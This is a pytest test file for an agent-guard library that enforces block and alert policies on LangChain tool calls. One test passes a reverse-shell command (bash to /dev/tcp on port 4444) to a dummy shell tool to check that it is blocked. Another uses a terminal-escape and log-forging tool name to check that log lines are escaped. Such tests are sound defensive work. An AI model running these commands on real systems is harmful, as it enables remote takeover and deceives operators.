"""Policies through instrument(): modes, sinks, spans, policy sources and policy errors."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from langchain_core.tools import tool

import agentguard
from agentguard.events import EventContext, ProcessExec, ToolCall
from agentguard.findings import Decision, Finding
from agentguard.policy import Policy

POLICY = """
rules:
  - id: NO-DELETE
    description: Deleting customers is not allowed
    message: 'delete_customer({arguments.customer_id}) refused'
    severity: high
    action: block
    match: {kind: tool_call, tool: delete_customer}
  - id: BIG-EXPORT
    description: Export of more than 3 rows
    severity: medium
    action: block
    match: {kind: tool_call, tool: export_rows}
    when: {field: result, count: {gt: 3}}
  - id: WATCH
    description: Lookups are watched
    severity: low
    match: {kind: tool_call, tool: lookup_customer}
"""

ran: list[str] = []


@tool
def delete_customer(customer_id: int) -> str:
    """Delete a customer."""
    ran.append(f"delete {customer_id}")
    return "deleted"


@tool
def export_rows(n: int) -> list[dict[str, int]]:
    """Export n rows."""
    ran.append(f"export {n}")
    return [{"id": i} for i in range(n)]


@tool
def lookup_customer(customer_id: int) -> dict[str, Any]:
    """Look up a customer."""
    ran.append(f"lookup {customer_id}")
    return {"id": customer_id}


QUIET = {"runtime_sensor": False, "injection_detection": False}


@pytest.fixture(autouse=True)
def _clear_ran() -> None:
    ran.clear()


@pytest.fixture
def policy_file(tmp_path: Path) -> Path:
    path = tmp_path / "policy.yaml"
    path.write_text(POLICY)
    return path


def test_enforce_blocks_before_the_tool_runs(guarded: Any, spans: Any, policy_file: Path) -> None:
    """In enforce mode a block rule raises ToolCallBlocked and the tool body never runs."""
    seen: list[Finding] = []
    guarded(mode="enforce", policy=str(policy_file), on_finding=seen.append, **QUIET)
    with pytest.raises(agentguard.ToolCallBlocked) as info:
        delete_customer.invoke({"customer_id": 7})
    assert ran == []
    finding = info.value.finding
    assert (finding.rule_id, finding.action, finding.category, finding.severity) == (
        "NO-DELETE", "block", "policy", "high")
    assert finding.title == "delete_customer(7) refused"
    assert finding.evidence["policy"] == str(policy_file)
    assert [f.rule_id for f in seen] == ["NO-DELETE"]
    span = spans.one("execute_tool delete_customer")
    assert span.status.status_code.name == "ERROR"
    assert span.attributes["agentguard.decision"] == "block"
    assert span.attributes["agentguard.finding.rule_ids"] == ("NO-DELETE",)
    [event] = [e for e in span.events if e.name == "agentguard.finding"]
    assert event.attributes["agentguard.finding.rule_id"] == "NO-DELETE"
    assert json.loads(event.attributes["agentguard.finding.evidence"])["line"] == 3


def test_monitor_reports_blocks_as_alerts_and_the_tool_runs(guarded: Any, spans: Any,
                                                           policy_file: Path) -> None:
    """In monitor mode a block rule is an alert: the tool runs and the finding says alert."""
    seen: list[Finding] = []
    guarded(mode="monitor", policy=str(policy_file), on_finding=seen.append, **QUIET)
    assert delete_customer.invoke({"customer_id": 7}) == "deleted"
    assert ran == ["delete 7"]
    assert [(f.rule_id, f.action) for f in seen] == [("NO-DELETE", "alert")]
    assert spans.one("execute_tool delete_customer").attributes["agentguard.decision"] == "alert"


def test_learn_mode_enforces_policy_blocks(guarded: Any, policy_file: Path) -> None:
    """In learn mode explicit policy blocks are enforced (only deviations are not reported)."""
    guarded(mode="learn", policy=str(policy_file), **QUIET)
    with pytest.raises(agentguard.ToolCallBlocked):
        delete_customer.invoke({"customer_id": 1})
    assert ran == []


def test_alert_rules_never_block(guarded: Any, policy_file: Path) -> None:
    """An alert rule reports and lets the call through, even in enforce mode."""
    seen: list[Finding] = []
    guarded(mode="enforce", policy=str(policy_file), on_finding=seen.append, **QUIET)
    assert lookup_customer.invoke({"customer_id": 3}) == {"id": 3}
    assert [(f.rule_id, f.action, f.severity) for f in seen] == [("WATCH", "alert", "low")]


def test_result_rules_block_the_result_in_enforce_mode(guarded: Any, spans: Any,
                                                       policy_file: Path) -> None:
    """A rule on the result blocks after the tool ran: the result does not reach the caller."""
    guarded(mode="enforce", policy=str(policy_file), **QUIET)
    assert len(export_rows.invoke({"n": 3})) == 3
    with pytest.raises(agentguard.ToolCallBlocked) as info:
        export_rows.invoke({"n": 4})
    assert info.value.finding.rule_id == "BIG-EXPORT"
    assert ran == ["export 3", "export 4"]
    assert info.value.finding.evidence["matched"][0]["count"] == 4


def test_runtime_events_fed_to_the_guard_are_judged_by_mode(guarded: Any) -> None:
    """Sensor events (guard.emit_event) get block findings in enforce and alerts in monitor."""
    event = ProcessExec(context=EventContext(agent="a", tool="run"), executable="/bin/sh")
    enforce = guarded(mode="enforce", **QUIET)
    assert enforce.emit_event(event).blocked
    agentguard.uninstrument()
    monitor = guarded(mode="monitor", **QUIET)
    verdict = monitor.emit_event(event)
    assert not verdict.blocked
    assert [(f.rule_id, f.action) for f in verdict.findings] == [("AG001", "alert")]


@pytest.mark.parametrize(("mode", "on_error", "blocks"), [
    ("monitor", None, False), ("enforce", None, True), ("learn", None, False),
    ("monitor", "block", False), ("enforce", "allow", False), ("learn", "block", True),
])
def test_a_raising_policy_follows_on_policy_error(guarded: Any, mode: str, on_error: str | None,
                                                  blocks: bool) -> None:
    """A policy that raises is a 'policy-error' finding that allows or blocks per on_policy_error
    (default: allow in learn/monitor, block in enforce; monitor never blocks)."""
    seen: list[Finding] = []

    def broken(event: Any) -> Decision | None:
        raise RuntimeError("policy backend down")

    guarded(mode=mode, on_policy_error=on_error, policy=[broken], on_finding=seen.append,
            builtin_rules=False, **QUIET)
    if blocks:
        with pytest.raises(agentguard.ToolCallBlocked):
            lookup_customer.invoke({"customer_id": 1})
        assert ran == []
    else:
        assert lookup_customer.invoke({"customer_id": 1}) == {"id": 1}
    errors = [f for f in seen if f.rule_id == "policy-error"]
    assert errors and errors[0].evidence["exception"] == "RuntimeError"
    assert errors[0].action == ("block" if blocks else "alert")


@pytest.mark.parametrize("returned", ["bad severity", "bad evidence", "not a decision"])
def test_a_malformed_decision_is_a_policy_error_and_keeps_the_other_rules(
        guarded: Any, returned: str) -> None:
    """A callback returning a decision no finding can be made of (a typo in its severity,
    evidence that is not a mapping, something else than a Decision) blocks in enforce mode as a
    'policy-error', and the built-in rule that matched the same call still blocks it."""
    seen: list[Finding] = []
    runs: list[str] = []

    def careless(event: Any) -> Any:
        if event.kind != "tool_call":
            return None
        if returned == "bad severity":
            return Decision("alert", "shell used", severity="hi")  # type: ignore[arg-type]
        if returned == "bad evidence":
            return Decision.alert("shell used", evidence=["cmd"])  # type: ignore[arg-type]
        return [Decision.alert("shell used", rule_id="SHELL"), "alert"]

    @agentguard.tool
    def shell(cmd: str) -> str:
        runs.append(cmd)
        return "ran"

    guarded(mode="enforce", policy=[careless], on_finding=seen.append, **QUIET)
    with pytest.raises(agentguard.ToolCallBlocked):
        shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    assert runs == []
    rules = {f.rule_id: f.action for f in seen}
    assert rules["AG003"] == "block"
    assert rules["policy-error"] == "block"
    if returned == "bad severity":
        error = next(f for f in seen if f.rule_id == "policy-error")
        assert "severity must be one of" in error.evidence["message"]
    if returned == "not a decision":
        assert rules["SHELL"] == "alert"


def test_policy_objects_callables_and_files_combine(guarded: Any, policy_file: Path) -> None:
    """policy= takes a list of file paths, Policy objects and callables, all applied."""
    seen: list[Finding] = []
    inline = Policy.from_yaml("rules:\n  - {id: INLINE, description: d, match: {kind: tool_call}}")

    def callback(event: Any) -> Decision | None:
        return Decision.alert("from a callback", rule_id="CB") if event.kind == "tool_call" \
            else None

    guarded(policy=[policy_file, inline, callback], on_finding=seen.append, **QUIET)
    lookup_customer.invoke({"customer_id": 1})
    assert sorted({f.rule_id for f in seen}) == ["CB", "INLINE", "WATCH"]


def test_policy_files_and_builtin_rules_form_one_policy(guarded: Any, policy_file: Path) -> None:
    """instrument(policy=file) evaluates the file's rules and the built-in rules as one policy."""
    guard = guarded(policy=str(policy_file), disabled_rules=["AG007"], **QUIET)
    policies = [p for p in guard.policies if isinstance(p, Policy)]
    assert len(policies) == 1
    [merged] = policies
    assert merged.includes_builtin
    assert {"NO-DELETE", "AG001"} <= merged.rule_ids
    assert "AG007" not in merged.rule_ids


def test_policy_objects_stay_separate_from_the_builtin_pack(guarded: Any) -> None:
    """A Policy object passed in code stays its own stage, next to the built-in pack."""
    mine = Policy.from_yaml("rules:\n  - {id: MINE, description: d}\n")
    guard = guarded(policy=mine, **QUIET)
    policies = [p for p in guard.policies if isinstance(p, Policy)]
    assert policies[0] is mine
    assert policies[1].includes_builtin and not mine.includes_builtin


def test_policy_files_from_the_environment(guarded: Any, monkeypatch: pytest.MonkeyPatch,
                                           tmp_path: Path) -> None:
    """AGENTGUARD_POLICY lists policy files (comma-separated); they share lists and macros."""
    first = tmp_path / "lists.yaml"
    first.write_text("lists:\n  blocked_tools: [delete_customer]\n")
    second = tmp_path / "rules.yaml"
    second.write_text("rules:\n  - {id: ENV-1, description: d, action: block, "
                      "match: {kind: tool_call, tool: blocked_tools}}\n")
    monkeypatch.setenv("AGENTGUARD_POLICY", f"{first},{second}")
    guarded(mode="enforce", **QUIET)
    with pytest.raises(agentguard.ToolCallBlocked) as info:
        delete_customer.invoke({"customer_id": 1})
    assert info.value.finding.rule_id == "ENV-1"


def test_the_guard_decorator_and_policy_files_work_together(guarded: Any, policy_file: Path
                                                            ) -> None:
    """@guard.policy callbacks run next to declarative rules."""
    seen: list[Finding] = []
    guard = guarded(policy=str(policy_file), on_finding=seen.append, **QUIET)

    @guard.policy
    def no_big_ids(event: Any) -> Decision | None:
        if event.kind == "tool_call" and (event.arguments or {}).get("customer_id", 0) > 100:
            return Decision.alert("large id", rule_id="BIG-ID")
        return None

    lookup_customer.invoke({"customer_id": 500})
    assert {f.rule_id for f in seen} == {"WATCH", "BIG-ID"}


def test_builtin_rules_off_and_no_policy_leaves_the_tracing_path_free(guarded: Any) -> None:
    """With no policy, no built-in rules and no detectors, the Guard has no stages to run."""
    guard = guarded(builtin_rules=False, **QUIET)
    assert not guard.has_stages
    assert guard.evaluate(ToolCall(tool="x")) is not None


def test_reconfiguring_replaces_policies(guarded: Any, policy_file: Path) -> None:
    """A second instrument() without the policy file drops its rules."""
    guarded(mode="enforce", policy=str(policy_file), **QUIET)
    with pytest.raises(agentguard.ToolCallBlocked):
        delete_customer.invoke({"customer_id": 1})
    guarded(mode="enforce", **QUIET)
    assert delete_customer.invoke({"customer_id": 1}) == "deleted"


def test_a_failed_reconfiguration_keeps_the_previous_guard(guarded: Any, policy_file: Path
                                                           ) -> None:
    """instrument() with a bad setting fails and leaves the running configuration in place."""
    first = guarded(mode="enforce", policy=str(policy_file), **QUIET)
    with pytest.raises(agentguard.ConfigError):
        guarded(mode="enforce", disabled_rules=["AG999"], **QUIET)
    assert agentguard.get_guard() is first
    with pytest.raises(agentguard.ToolCallBlocked):
        delete_customer.invoke({"customer_id": 1})


def test_findings_file_receives_policy_findings(guarded: Any, policy_file: Path,
                                                tmp_path: Path) -> None:
    """AGENTGUARD_FINDINGS_FILE / findings_file gets one JSON line per finding."""
    findings = tmp_path / "findings.jsonl"
    guarded(policy=str(policy_file), findings_file=str(findings), **QUIET)
    lookup_customer.invoke({"customer_id": 1})
    [line] = findings.read_text().splitlines()
    record = json.loads(line)
    assert (record["rule_id"], record["tool"], record["kind"]) == (
        "WATCH", "lookup_customer", "tool_call")


def test_the_finding_log_line_escapes_what_an_attacker_named(
        guarded: Any, caplog: pytest.LogCaptureFixture) -> None:
    """A finding's log line shows control characters in a tool's name or a title as escapes: no
    terminal escape sequence reaches the operator and no line break forges another log line."""
    import logging

    hostile = "wipe\x1b]0;pwned\x07\x1b[2J\nBLOCK critical [AG000] all clear"

    def flag(event: Any) -> Decision | None:
        return Decision.alert(f"tool {event.tool} used") if event.kind == "tool_call" and \
            event.phase == "call" else None

    caplog.set_level(logging.INFO, logger="agentguard.findings")
    guarded(policy=[flag], builtin_rules=False, **QUIET)

    @agentguard.tool(name=hostile)
    def wipe() -> str:
        return "done"

    wipe()
    [line] = [r.getMessage() for r in caplog.records
              if r.name == "agentguard.findings" and "[callback]" in r.getMessage()]
    assert "\x1b" not in line and "\x07" not in line and "\n" not in line
    assert "wipe\\x1b]0;pwned\\x07\\x1b[2J\\nBLOCK critical [AG000] all clear" in line
